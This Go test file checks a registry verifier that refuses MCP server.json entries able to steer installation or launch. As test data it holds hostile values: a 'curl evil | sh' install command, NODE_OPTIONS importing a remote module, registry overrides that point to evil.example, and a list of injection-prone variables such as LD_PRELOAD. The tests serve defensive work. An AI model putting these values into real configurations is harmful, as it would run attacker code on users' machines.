package registry

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/mcpsign/mcpsign/attest"
	"github.com/mcpsign/mcpsign/policy"
	"github.com/mcpsign/mcpsign/source"
)

// TestEntryMembersBoundOrRefused: every member of server.json that
// decides what is installed, how it starts, with what environment or
// where a host connects is bound by the statement or refuses the entry,
// named by its JSON Pointer (docs/REGISTRY.md, "What each member of
// server.json is"). On main the rows marked refused verified: the
// environment steered npm or pip to another registry, a package transport
// pointed the host at any URL, and bytes the strict reader never read
// (a repeated member, invalid UTF-8) were copied into the dump.
func TestEntryMembersBoundOrRefused(t *testing.T) {
	t.Parallel()
	st := &attest.Statement{}
	st.Predicate.Server.Version = "1.0.0"
	st.Predicate.Package = []attest.Package{{PURL: "pkg:npm/%40acme/notes@1.0.0"}}
	pkg := func(extra string) string {
		return `,"packages":[{"registryType":"npm","identifier":"@acme/notes","version":"1.0.0","transport":{"type":"stdio"}` + extra + `}]`
	}
	env := func(vars string) string { return pkg(`,"environmentVariables":[` + vars + `]`) }
	for _, c := range []struct {
		name, extra string
		pointer     string // "" : the entry is bound as a whole
		atRead      bool   // refused as it is read (step entry), not at binding
	}{
		{"the package alone", pkg(""), "", false},
		{"a secret the user gives", env(`{"name":"ACME_TOKEN","description":"token","isSecret":true,"isRequired":true}`), "", false},
		{"a user's path, positional", pkg(`,"packageArguments":[{"type":"positional","valueHint":"dir","description":"d"}]`), "", false},
		{"runtimeHint npx", pkg(`,"runtimeHint":"npx"`), "", false},
		// the environment steers the installer or the runtime.
		{"npm_config_registry", env(`{"name":"npm_config_registry","value":"https://npm.evil.example"}`), "/packages/0/environmentVariables/0/value", false},
		{"PIP_INDEX_URL default", env(`{"name":"PIP_INDEX_URL","default":"https://pypi.evil.example/simple"}`), "/packages/0/environmentVariables/0/default", false},
		{"UV_INDEX_URL asked of the user", env(`{"name":"UV_INDEX_URL","description":"set it to https://uv.evil.example"}`), "/packages/0/environmentVariables/0/name", false},
		{"NODE_OPTIONS --import", env(`{"name":"NODE_OPTIONS","value":"--import=https://evil.example/x.mjs"}`), "/packages/0/environmentVariables/0/value", false},
		{"a name with a space", env(`{"name":" NODE_OPTIONS"}`), "/packages/0/environmentVariables/0/name", false},
		{"an argument of no known type", pkg(`,"packageArguments":[{"type":"raw","valueHint":"x"}]`), "/packages/0/packageArguments/0/type", false},
		{"npm_config in upper case", env(`{"name":"NPM_CONFIG_REGISTRY","isRequired":true}`), "/packages/0/environmentVariables/0/name", false},
		// Runtime-shaped names the deny-list of main let through.
		{"a .NET profiler asked of the user", env(`{"name":"ACME_TOKEN","isSecret":true},{"name":"CORECLR_PROFILER_PATH","description":"set it to the agent"}`), "/packages/0/environmentVariables/1/name", false},
		{"a Java class path asked of the user", env(`{"name":"CLASSPATH","isRequired":true}`), "/packages/0/environmentVariables/0/name", false},
		{"GCONV_PATH asked of the user", env(`{"name":"GCONV_PATH"}`), "/packages/0/environmentVariables/0/name", false},
		{"any value the registry chose", env(`{"name":"ACME_TOKEN","isSecret":true},{"name":"LOG_LEVEL","default":"debug"}`), "/packages/0/environmentVariables/1/default", false},
		{"a value built from variables", env(`{"name":"ACME_URL","variables":{"host":{"default":"evil.example"}}}`), "/packages/0/environmentVariables/0/variables", false},
		{"a positional value", pkg(`,"packageArguments":[{"type":"positional","value":"--eval=evil"}]`), "/packages/0/packageArguments/0/value", false},
		{"a named flag", pkg(`,"packageArguments":[{"type":"named","name":"--allow-all-paths"}]`), "/packages/0/packageArguments/0", false},
		{"runtimeHint node", pkg(`,"runtimeHint":"node"`), "/packages/0/runtimeHint", false},
		{"runtimeHint docker for npm", pkg(`,"runtimeHint":"docker"`), "/packages/0/runtimeHint", false},
		// a package transport that names where a host connects.
		{"streamable-http transport", `,"packages":[{"registryType":"npm","identifier":"@acme/notes","version":"1.0.0","transport":{"type":"streamable-http","url":"https://evil.example/mcp"}}]`, "/packages/0/transport", false},
		{"sse transport with headers", `,"packages":[{"registryType":"npm","identifier":"@acme/notes","version":"1.0.0","transport":{"type":"sse","url":"https://evil.example/sse","headers":[{"name":"X","value":"y"}]}}]`, "/packages/0/transport", false},
		{"stdio with a url", `,"packages":[{"registryType":"npm","identifier":"@acme/notes","version":"1.0.0","transport":{"type":"stdio","url":"https://evil.example/mcp"}}]`, "/packages/0/transport/url", false},
		{"a remote", pkg("") + `,"remotes":[{"type":"streamable-http","url":"https://evil.example/mcp"}]`, "/remotes", false},
		{"a member the schema does not define", pkg(`,"installCommand":"curl evil | sh"`), "/packages/0/installCommand", false},
		{"a top-level member the schema does not define", pkg("") + `,"launch":{"command":"sh"}`, "/launch", false},
		// a repeated member where mcpsign did not read.
		{"transport type twice", `,"packages":[{"registryType":"npm","identifier":"@acme/notes","version":"1.0.0","transport":{"type":"stdio","type":"streamable-http","url":"https://evil.example/mcp"}}]`, "/packages/0/transport/type", true},
		{"a repeated member in icons", pkg("") + `,"icons":[{"src":"https://a.example/i.png","src":"https://b.example/i.png"}]`, "/icons/0/src", true},
		// invalid UTF-8 and lone surrogates anywhere.
		{"invalid UTF-8 in description", pkg("") + ",\"title\":\"a\xff\"", "/title", true},
		{"a lone surrogate", pkg("") + `,"websiteUrl":"https://a.example/\ud800"`, "/websiteUrl", true},
	} {
		t.Run(c.name, func(t *testing.T) {
			raw := serverJSON("a/b", "1.0.0", c.extra)
			for _, form := range []struct{ raw, base string }{{raw, ""}, {`{"server":` + raw + `}`, "/server"}} {
				e, err := ParseEntry([]byte(form.raw), Limits{})
				if err == nil {
					err = CheckBinding(e, st)
				}
				if c.pointer == "" {
					if err != nil {
						t.Fatalf("refused: %v", err)
					}
					continue
				}
				var me *MemberError
				if !errors.As(err, &me) || me.Pointer != form.base+c.pointer {
					t.Fatalf("want a refusal at %s, got %v", form.base+c.pointer, err)
				}
				want := ErrBinding
				if c.atRead {
					want = ErrEntry
				}
				if !errors.Is(err, want) {
					t.Fatalf("want %v, got %v", want, err)
				}
			}
		})
	}
}

// TestSteeringVariable: the class of environment variables refused
// whoever gives their value fails closed: every runtime-shaped name is
// refused, and the server's own settings and credentials pass. The rows
// marked "main" passed on main (a deny-list of names): the .NET runtime's
// CORECLR_* and COMPlus_* (a profiler DLL loaded into the process), the C
// library's GCONV_PATH (a module loaded by iconv), Java's CLASSPATH, and
// the like.
func TestSteeringVariable(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name  string
		steer bool
	}{
		// Refused on main already.
		{"npm_config_registry", true}, {"NPM_CONFIG_USERCONFIG", true}, {"PIP_INDEX_URL", true}, {"PIP_EXTRA_INDEX_URL", true},
		{"UV_INDEX_URL", true}, {"UV_DEFAULT_INDEX", true}, {"NODE_OPTIONS", true}, {"NODE_EXTRA_CA_CERTS", true}, {"PYTHONPATH", true},
		{"LD_PRELOAD", true}, {"DYLD_INSERT_LIBRARIES", true}, {"HTTPS_PROXY", true}, {"https_proxy", true}, {"PATH", true},
		{"GOFLAGS", true}, {"DOCKER_HOST", true}, {"JAVA_TOOL_OPTIONS", true}, {"_JAVA_OPTIONS", true}, {"RUBYOPT", true},
		{"PERL5OPT", true}, {"GEM_HOME", true}, {"BUNDLE_GEMFILE", true}, {"CARGO_HOME", true}, {"GIT_SSH_COMMAND", true},
		// main: passed.
		{"CORECLR_PROFILER_PATH", true}, {"CORECLR_ENABLE_PROFILING", true}, {"COMPlus_EnableDiagnostics", true},
		{"COMPLUS_DbgJITDebugLaunchSetting", true}, {"GCONV_PATH", true}, {"CLASSPATH", true}, {"JDK_JAVA_OPTIONS", true},
		{"MAVEN_OPTS", true}, {"GRADLE_OPTS", true}, {"RUSTFLAGS", true}, {"RUSTC_WRAPPER", true}, {"RUSTUP_DIST_SERVER", true},
		{"CGO_LDFLAGS", true}, {"GOEXPERIMENT", true}, {"GOCACHEPROG", true}, {"GO111MODULE", true}, {"GOAMD64", true},
		{"GLIBC_TUNABLES", true}, {"MALLOC_CHECK_", true}, {"LOCPATH", true}, {"NLSPATH", true}, {"HOSTALIASES", true},
		{"ASAN_OPTIONS", true}, {"RES_OPTIONS", true}, {"PERL5LIB", true}, {"RUBYLIB", true}, {"PHPRC", true},
		{"PHP_INI_SCAN_DIR", true}, {"LUA_INIT", true}, {"TCLLIBPATH", true}, {"ERL_AFLAGS", true}, {"ELECTRON_RUN_AS_NODE", true},
		{"OPENSSL_CONF", true}, {"SSL_CERT_FILE", true}, {"SSLKEYLOGFILE", true}, {"AWS_CA_BUNDLE", true}, {"GIT_CONFIG_GLOBAL", true},
		{"SSH_AUTH_SOCK", true}, {"GNUPGHOME", true}, {"CC", true}, {"CXX", true}, {"MAKEFLAGS", true}, {"CMAKE_TOOLCHAIN_FILE", true},
		{"PKG_CONFIG", true}, {"EDITOR", true}, {"ZDOTDIR", true}, {"PROMPT_COMMAND", true}, {"BASH_FUNC_ls%%", true},
		{"DOTNET_STARTUP_HOOKS", true}, {"NUGET_PACKAGES", true}, {"PYENV_VERSION", true}, {"VIRTUAL_ENV", true},
		{"HOMEBREW_BOTTLE_DOMAIN", true}, {"MSBUILDEXTENSIONSPATH", true}, {"JAVA_HOME", true}, {"GO_EXTRA", true},
		{"_", true}, {"ACME_LIBRARY_DIR", true}, {"MEMORY_FILE_PATH", true},
		// Where an install script fetches from.
		{"ELECTRON_MIRROR", true}, {"PUPPETEER_DOWNLOAD_BASE_URL", true}, {"PLAYWRIGHT_DOWNLOAD_HOST", true},
		{"SASS_BINARY_SITE", true}, {"CHROMEDRIVER_CDNURL", true}, {"PRISMA_ENGINES_MIRROR", true},
		{"SHARP_DIST_BASE_URL", true}, {"NODEJS_ORG_MIRROR", true}, {"ACME_REGISTRY_URL", true}, {"ACME_INDEX_URL", true},
		// The server's own settings and credentials.
		{"ACME_TOKEN", false}, {"GOOGLE_API_KEY", false}, {"GOOGLE_APPLICATION_CREDENTIALS", false}, {"GITHUB_TOKEN", false},
		{"GITHUB_PERSONAL_ACCESS_TOKEN", false}, {"API_KEY", false}, {"LOG_LEVEL", false}, {"BRAVE_API_KEY", false},
		{"SLACK_BOT_TOKEN", false}, {"DATABASE_URL", false}, {"OPENAI_API_KEY", false}, {"NOTION_TOKEN", false},
		{"POSTGRES_CONNECTION_STRING", false}, {"ALLOWED_DIRECTORIES", false}, {"TIMEZONE", false},
	} {
		if got := SteeringVariable(tt.name); got != tt.steer {
			t.Errorf("SteeringVariable(%q) = %v, want %v", tt.name, got, tt.steer)
		}
	}
}

// TestRealSeedsRead: the official registry's own seed files. Their
// entries read (no false refusal of a member the schema defines), and the
// seven entries of the 2025-05-16 seed with an empty name are refused,
// each known by its line.
func TestRealSeedsRead(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		file    string
		entries int
		lines   []int // the lines of the entries refused at StepEntry
	}{
		{"seed-v1.5.0.json", 4, nil},
		{"seed_2025_05_16-sample.json", 8, []int{2, 30, 45, 60, 75, 90, 105, 120}},
	} {
		t.Run(c.file, func(t *testing.T) {
			f, err := os.Open(filepath.Join("testdata", "seeds", c.file))
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			st := &attest.Statement{}
			var refused []int
			n := 0
			err = ReadDumpAt(f, Limits{}, func(raw []byte, pos Position) error {
				n++
				e, err := ParseEntry(raw, Limits{})
				if err != nil {
					refused = append(refused, pos.Line)
					if pos.Line == 0 || pos.Index != n-1 {
						t.Errorf("entry %d: position %+v", n-1, pos)
					}
					return nil
				}
				if len(e.Unbound) > 0 {
					t.Errorf("%s: %v", e.Name, e.Unbound[0])
				}
				st.Predicate.Server.Version = e.Version
				return nil
			})
			if err != nil || n != c.entries {
				t.Fatalf("%d entries, %v", n, err)
			}
			// The old seed's first entry has no version either: its
			// format (version_detail) is not server.json's.
			if fmt.Sprint(refused) != fmt.Sprint(c.lines) {
				t.Fatalf("refused at lines %v, want %v", refused, c.lines)
			}
		})
	}
}

// tlsRegistry serves the handler over HTTPS on 127.0.0.1.
func tlsRegistry(t *testing.T, h http.HandlerFunc) *httptest.Server {
	t.Helper()
	srv := httptest.NewTLSServer(h)
	t.Cleanup(srv.Close)
	return srv
}

// collect runs v over src and returns the lines.
func collect(t *testing.T, v *Verifier, ctx context.Context, src string, o SourceOptions) ([]*Result, Summary, error) {
	t.Helper()
	var got []*Result
	o.Emit = func(r *Result) error { got = append(got, r); return nil }
	sum, err := v.RunSource(ctx, src, o)
	return got, sum, err
}

func nested(n int) string { return strings.Repeat(`[`, n) + strings.Repeat(`]`, n) }

// TestOneBadEntryNeverStopsTheRun: an entry nested too
// deep, on a registry's page, refuses that entry only; the page's other
// entries and the pages after it are verified. On main the page, and
// every page after it, was refused: exit 2.
func TestOneBadEntryNeverStopsTheRun(t *testing.T) {
	t.Parallel()
	pf := keyPolicy(t)
	for _, depth := range []int{80, 600, 100000} {
		t.Run(fmt.Sprint(depth), func(t *testing.T) {
			t.Parallel()
			deep := `{"server":{"name":"a/deep","version":"1","description":` + nested(depth) + `}}`
			srv := tlsRegistry(t, func(w http.ResponseWriter, r *http.Request) {
				switch r.URL.Query().Get("cursor") {
				case "":
					fmt.Fprint(w, `{"servers":[{"server":`+serverJSON("a/one", "1", "")+`},`+deep+`,{"server":`+serverJSON("a/two", "1", "")+`}],"metadata":{"nextCursor":"p2"}}`)
				case "p2":
					fmt.Fprint(w, `{"servers":[{"server":`+serverJSON("a/three", "1", "")+`}],"metadata":{}}`)
				}
			})
			v, err := New(Options{Policy: pf, HTTPClient: srv.Client()})
			if err != nil {
				t.Fatal(err)
			}
			got, sum, err := collect(t, v, context.Background(), srv.URL, SourceOptions{Client: Client{HTTPClient: srv.Client()}})
			if err != nil || len(got) != 4 || sum.Entries != 4 {
				t.Fatalf("%d lines, %+v, %v", len(got), sum, err)
			}
			d := got[1]
			if d.Step != StepEntry || d.Position != (Position{Page: 1, Index: 1}) || !strings.Contains(d.Reason, "nesting deeper") {
				t.Fatalf("the deep entry: %+v", d)
			}
			if got[3].Name != "a/three" || got[3].Position != (Position{Page: 2, Index: 0}) {
				t.Fatalf("the next page: %+v", got[3])
			}
		})
	}
}

// TestOversizedEntryInADump: an entry of a dump over the entry bound
// refuses that entry, not the rest of the file (on main the reading
// stopped there, exit 2).
func TestOversizedEntryInADump(t *testing.T) {
	t.Parallel()
	v, _ := New(Options{Policy: keyPolicy(t), Limits: Limits{MaxEntryBytes: 4 << 10}})
	big := serverJSON("a/big", "1", `,"title":"`+strings.Repeat("x", 8<<10)+`"`)
	src := filepath.Join(t.TempDir(), "dump.json")
	os.WriteFile(src, []byte("["+serverJSON("a/one", "1", "")+",\n"+big+",\n"+serverJSON("a/two", "1", "")+"]"), 0o644)
	got, _, err := collect(t, v, context.Background(), src, SourceOptions{Client: Client{Limits: Limits{MaxEntryBytes: 4 << 10}}})
	if err != nil || len(got) != 3 || got[1].Step != StepEntry || got[2].Name != "a/two" {
		t.Fatalf("%d lines, %v", len(got), err)
	}
}

// TestInterruptedRunChangesNothing: a
// run stopped while bundles are fetched, or while the listing waits for a
// page, returns ErrInterrupted, keeps the old --verified-out, and counts
// the entries it did not verify as interrupted, not as other shards nor
// as failures. On main the dump was replaced by one missing the entries in
// flight, and the error was that of a failed entry.
func TestInterruptedRunChangesNothing(t *testing.T) {
	t.Parallel()
	pf := keyPolicy(t)
	for _, c := range []struct {
		name    string
		stall   string // the path that never answers
		stalls  int    // the requests stalled before the interrupt
		workers int
	}{
		// Every entry listed and in flight: the listing has ended, so on
		// main the run committed the dump without them.
		{"during the bundle fetches, the listing ended", "/bundle", 3, 4},
		{"during the bundle fetches, the listing blocked", "/bundle", 1, 1},
		{"while the listing waits for a page", "/page2", 1, 2},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			stalled := make(chan struct{}, 16)
			var srv *httptest.Server
			srv = tlsRegistry(t, func(w http.ResponseWriter, r *http.Request) {
				path := r.URL.Path
				if r.URL.Query().Get("cursor") == "p2" {
					path = "/page2"
				}
				if path == c.stall {
					stalled <- struct{}{}
					<-r.Context().Done()
					return
				}
				switch path {
				case "/v0.1/servers":
					var es []string
					for i := range 3 {
						es = append(es, `{"server":`+serverJSON(fmt.Sprintf("a/s%d", i), "1", pointerMeta(srv.URL+"/bundle", dg))+`}`)
					}
					fmt.Fprint(w, `{"servers":[`+strings.Join(es, ",")+`],"metadata":{"nextCursor":"p2"}}`)
				case "/page2":
					fmt.Fprint(w, `{"servers":[],"metadata":{}}`)
				default:
					w.Write([]byte("not the bundle"))
				}
			})
			v, err := New(Options{Policy: pf, HTTPClient: srv.Client(), SourceHost: SourceHost(srv.URL)})
			if err != nil {
				t.Fatal(err)
			}
			defer v.Close()
			out := filepath.Join(t.TempDir(), "verified.json")
			os.WriteFile(out, []byte("[] the old dump\n"), 0o644)
			ctx, cancel := context.WithCancelCause(context.Background())
			go func() {
				for range c.stalls {
					<-stalled
				}
				cancel(errors.New("interrupt signal received"))
			}()
			got, sum, err := collect(t, v, ctx, srv.URL, SourceOptions{Client: Client{HTTPClient: srv.Client()}, VerifiedOut: out, RunOptions: RunOptions{Workers: c.workers}})
			if !errors.Is(err, ErrInterrupted) || !strings.Contains(err.Error(), "interrupt signal received") {
				t.Fatalf("err %v", err)
			}
			if b, _ := os.ReadFile(out); string(b) != "[] the old dump\n" {
				t.Fatalf("--verified-out changed: %q", b)
			}
			if sum.OtherShards != 0 {
				t.Fatalf("entries skipped by the interrupt counted as other shards: %+v", sum)
			}
			for _, r := range got {
				if c.stall == "/bundle" && r.Step == StepFetch {
					t.Fatalf("an entry stopped in flight reported as failed: %+v", r)
				}
			}
			if c.stall == "/bundle" && sum.Interrupted < c.stalls {
				t.Fatalf("no entry counted as interrupted: %+v", sum)
			}
			if !strings.Contains(sum.Table(), "interrupted") && sum.Interrupted > 0 {
				t.Fatalf("table: %s", sum.Table())
			}
		})
	}
}

// TestRegistryStatus: the registry's status is carried
// into each line; a deleted entry (a takedown) is refused before anything
// is fetched; a deprecated one goes on; a status mcpsign does not know
// fails closed. On main a deleted entry was verified as a live one.
func TestRegistryStatus(t *testing.T) {
	t.Parallel()
	pf := keyPolicy(t)
	v, err := New(Options{Policy: pf})
	if err != nil {
		t.Fatal(err)
	}
	api := func(status string) string {
		return `{"server":` + serverJSON("a/b", "1", "") + `,"_meta":{"` + OfficialMeta + `":{"status":"` + status + `","isLatest":true}}}`
	}
	old := func(status string) string { // the registry's 2025-09 API: in server.json's _meta
		return serverJSON("a/b", "1", `,"_meta":{"`+OfficialMeta+`":{"status":"`+status+`"}}`)
	}
	for _, c := range []struct {
		name, raw, status, step, pointer string
	}{
		{"active", api("active"), "active", StepAttestation, ""},
		{"deprecated", api("deprecated"), "deprecated", StepAttestation, ""},
		{"deleted", api("deleted"), "deleted", StepStatus, "/_meta/io.modelcontextprotocol.registry~1official/status"},
		{"deleted, in server.json's _meta", old("deleted"), "deleted", StepStatus, "/_meta/io.modelcontextprotocol.registry~1official/status"},
		{"deleted, 2025-09 top-level status", serverJSON("a/b", "1", `,"status":"deleted"`), "deleted", StepStatus, "/status"},
		{"unknown", api("hidden"), "hidden", StepStatus, "/_meta/io.modelcontextprotocol.registry~1official/status"},
		{"two statuses", `{"server":` + old("active") + `,"_meta":{"` + OfficialMeta + `":{"status":"deleted"}}}`, "active", StepEntry, "/_meta/io.modelcontextprotocol.registry~1official/status"},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := v.VerifyEntry(context.Background(), []byte(c.raw))
			if r.Verified || r.Step != c.step || r.Status != c.status || r.Pointer != c.pointer {
				t.Fatalf("%+v", r)
			}
			if c.step == StepStatus && !errors.Is(r.Err(), ErrStatus) {
				t.Fatalf("not ErrStatus: %v", r.Err())
			}
		})
	}
}

// TestDuplicatesBothRefused: the same name and version
// listed twice, with different content: both refused, each line naming
// the other's position. On main both went on (and both were dumped when
// they verified).
func TestDuplicatesBothRefused(t *testing.T) {
	t.Parallel()
	v, err := New(Options{Policy: keyPolicy(t)})
	if err != nil {
		t.Fatal(err)
	}
	src := filepath.Join(t.TempDir(), "dump.jsonl")
	os.WriteFile(src, []byte(serverJSON("a/b", "1", `,"title":"first"`)+"\n"+serverJSON("a/c", "1", "")+"\n"+serverJSON("a/b", "1", `,"title":"second"`)+"\n"), 0o644)
	got, sum, err := collect(t, v, context.Background(), src, SourceOptions{})
	if err != nil || len(got) != 4 {
		t.Fatalf("%d lines, %v", len(got), err)
	}
	if r := got[2]; r.Step != StepDuplicate || r.Position.Line != 3 || !strings.Contains(r.Reason, "first at line 1") {
		t.Fatalf("the second: %+v", r)
	}
	if r := got[3]; r.Step != StepDuplicate || r.Position.Line != 1 || !strings.Contains(r.Reason, "at line 3") {
		t.Fatalf("the withdrawal of the first: %+v", r)
	}
	if sum.Entries != 3 || sum.Verified != 0 {
		t.Fatalf("%+v", sum)
	}
}

// TestDumpWithdrawsDuplicates: an entry already written to a dump file is
// left out of it when its name and version come again; a dump over a
// plain writer cannot be, and its Close fails rather than leave it in.
func TestDumpWithdrawsDuplicates(t *testing.T) {
	t.Parallel()
	res := func(name, title string) *Result {
		e, err := ParseEntry([]byte(serverJSON(name, "1", `,"title":"`+title+`"`)), Limits{})
		if err != nil {
			t.Fatal(err)
		}
		return &Result{Name: name, Version: "1", Verified: true, Policy: "a/*", entry: e}
	}
	path := filepath.Join(t.TempDir(), "verified.json")
	d, err := CreateDump(path)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range []*Result{res("a/b", "first"), res("a/c", "kept"), res("a/d", "kept too")} {
		if err := d.Add(r); err != nil {
			t.Fatal(err)
		}
	}
	d.withdraw(dupKey("a/b", "1"))
	if err := d.Commit(); err != nil {
		t.Fatal(err)
	}
	b, _ := os.ReadFile(path)
	if bytes.Contains(b, []byte("first")) || !bytes.Contains(b, []byte("kept too")) {
		t.Fatalf("%s", b)
	}
	n := 0
	if err := ReadDump(bytes.NewReader(b), Limits{}, func([]byte) error { n++; return nil }); err != nil || n != 2 {
		t.Fatalf("%d entries, %v: %s", n, err, b)
	}
	var buf bytes.Buffer
	w := NewDumpWriter(&buf)
	w.Add(res("a/b", "x"))
	w.withdraw(dupKey("a/b", "1"))
	if err := w.Close(); err == nil {
		t.Fatal("a withdrawn entry left in a plain dump")
	}
}

// TestLoopbackSourceHost: a registry on loopback makes
// its own host and port reachable for its bundles, and no other loopback
// service. On main every loopback address and port was.
func TestLoopbackSourceHost(t *testing.T) {
	t.Parallel()
	var other atomic.Int32
	service := tlsRegistry(t, func(w http.ResponseWriter, r *http.Request) { other.Add(1) })
	reg := tlsRegistry(t, func(w http.ResponseWriter, r *http.Request) { w.Write([]byte("not a bundle")) })
	pf := keyPolicy(t)
	v, err := New(Options{Policy: pf, HTTPClient: reg.Client(), SourceHost: SourceHost(reg.URL), FetchTimeout: 5 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	defer v.Close()
	r := v.VerifyEntry(context.Background(), []byte(serverJSON("a/b", "1", pointerMeta(reg.URL+"/b", dg))))
	if !errors.Is(r.Err(), source.ErrBundleDigest) {
		t.Fatalf("the registry's own bundle: %+v", r)
	}
	r = v.VerifyEntry(context.Background(), []byte(serverJSON("a/b", "1", pointerMeta(service.URL+"/admin", dg))))
	if !errors.Is(r.Err(), source.ErrAddressRefused) || other.Load() != 0 {
		t.Fatalf("another loopback service reached: %+v (%d requests)", r, other.Load())
	}
	// The same rule for any fetch of a source's bundles (NewFetcher).
	f, err := NewFetcher(reg.URL, source.BundleOptions{HTTPClient: reg.Client()})
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if _, err := f.Fetch(context.Background(), reg.URL+"/b", PointerDigest([]byte("not a bundle")), 1<<20); err != nil {
		t.Fatalf("NewFetcher, the registry's own bundle: %v", err)
	}
	if _, err := f.Fetch(context.Background(), service.URL+"/admin", dg, 1<<20); !errors.Is(err, source.ErrAddressRefused) || other.Load() != 0 {
		t.Fatalf("NewFetcher, another loopback service: %v", err)
	}
	for src, want := range map[string]string{
		"http://127.0.0.1:8080/": "127.0.0.1:8080", "https://localhost": "localhost:443", "http://[::1]/v0": "[::1]:80",
		"https://registry.example.com": "", "dump.json": "", "-": "",
	} {
		if got := SourceHost(src); got != want {
			t.Errorf("SourceHost(%q) = %q, want %q", src, got, want)
		}
	}
}

// TestListingBudget: a cursor that never repeats is
// bounded by the whole listing's bytes and time, not only by 100,000
// pages.
func TestListingBudget(t *testing.T) {
	t.Parallel()
	var n atomic.Int64
	srv := tlsRegistry(t, func(w http.ResponseWriter, r *http.Request) {
		i := n.Add(1)
		time.Sleep(20 * time.Millisecond)
		fmt.Fprintf(w, `{"servers":[{"server":%s}],"metadata":{"nextCursor":"c%d"}}`, serverJSON("a/b", fmt.Sprint(i), ""), i)
	})
	for _, c := range []struct {
		name string
		lim  Limits
		want string
	}{
		{"bytes", Limits{MaxListingBytes: 2000}, "exceed 2000 bytes"},
		{"time", Limits{ListingTimeout: 300 * time.Millisecond}, "time budget"},
	} {
		t.Run(c.name, func(t *testing.T) {
			cl := Client{Base: srv.URL, HTTPClient: srv.Client(), Limits: c.lim}
			err := cl.Each(context.Background(), func([]byte) error { return nil })
			if !errors.Is(err, ErrFetch) || !strings.Contains(err.Error(), c.want) {
				t.Fatalf("err %v", err)
			}
		})
	}
}

// TestRefusalsNameEntryAndPosition: every line of a run carries the
// entry's position; a refusal of one member names its pointer, in the
// JSON line too.
func TestRefusalsNameEntryAndPosition(t *testing.T) {
	t.Parallel()
	pf, _ := policy.Parse([]byte(`{"kind":"mcpsign.policy","policyVersion":1,"servers":{"a/*":{}}}`), "/p.json")
	v, _ := New(Options{Policy: pf})
	src := filepath.Join(t.TempDir(), "dump.json")
	os.WriteFile(src, []byte("[\n"+serverJSON("", "1", "")+",\n"+serverJSON("a/b", "1", ",\"title\":\"\xfe\"")+"\n]\n"), 0o644)
	var buf bytes.Buffer
	_, err := v.RunSource(context.Background(), src, SourceOptions{RunOptions: RunOptions{Emit: WriteResults(&buf, true)}})
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
	if len(lines) != 2 || !strings.Contains(lines[0], `"position":{"line":2,"index":0}`) || !strings.Contains(lines[0], `"pointer":"/name"`) ||
		!strings.Contains(lines[1], `"name":"a/b"`) || !strings.Contains(lines[1], `"pointer":"/title"`) || !strings.Contains(lines[1], `"position":{"line":3,"index":1}`) {
		t.Fatalf("%s", buf.String())
	}
	buf.Reset()
	v.RunSource(context.Background(), src, SourceOptions{RunOptions: RunOptions{Emit: WriteResults(&buf, false)}})
	if !strings.Contains(buf.String(), `"" "1" (line 2, entry 0) at step entry: invalid registry entry: /name: empty`) {
		t.Fatalf("%s", buf.String())
	}
}

// TestDupKey: names that differ only in ASCII case are one name to the
// duplicate check; the key cannot be forged by moving bytes between the
// name and the version.
func TestDupKey(t *testing.T) {
	t.Parallel()
	if dupKey("io.github.Acme/Notes", "1") != dupKey("io.github.acme/notes", "1") {
		t.Error("case variants are two keys")
	}
	if dupKey("a/b", "11") == dupKey("a/b1", "1") || dupKey("a/b", "1") == dupKey("a/b", "2") {
		t.Error("distinct entries share a key")
	}
}

// TestEnvName: a portable environment variable name is [A-Za-z_] then
// [A-Za-z0-9_]: each range to its ends, the bytes just outside each,
// a digit first, and the empty name.
func TestEnvName(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]bool{
		"A": true, "Z": true, "a": true, "z": true, "_": true, "A0": true, "A9": true, "_9": true, "Az_09": true,
		"": false, "0A": false, "9": false, "@": false, "[": false, "`": false, "{": false,
		"A/": false, "A:": false, "A-B": false, "A B": false, "É": false,
	} {
		if got := envName(name); got != want {
			t.Errorf("envName(%q) = %v, want %v", name, got, want)
		}
	}
}
